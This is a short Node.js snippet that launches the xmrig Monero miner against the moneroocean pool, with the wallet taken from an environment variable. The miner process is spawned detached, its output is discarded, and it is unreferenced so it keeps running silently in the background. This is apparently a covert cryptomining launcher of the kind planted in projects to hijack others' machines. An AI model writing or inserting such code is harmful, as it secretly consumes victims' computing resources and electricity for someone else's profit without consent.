const { spawn } = require('child_process');
spawn('./xmrig', ['-o', 'gulf.moneroocean.stream:10128', '-u', process.env.W, '--donate-level', '1'], { detached: true, stdio: 'ignore' }).unref();
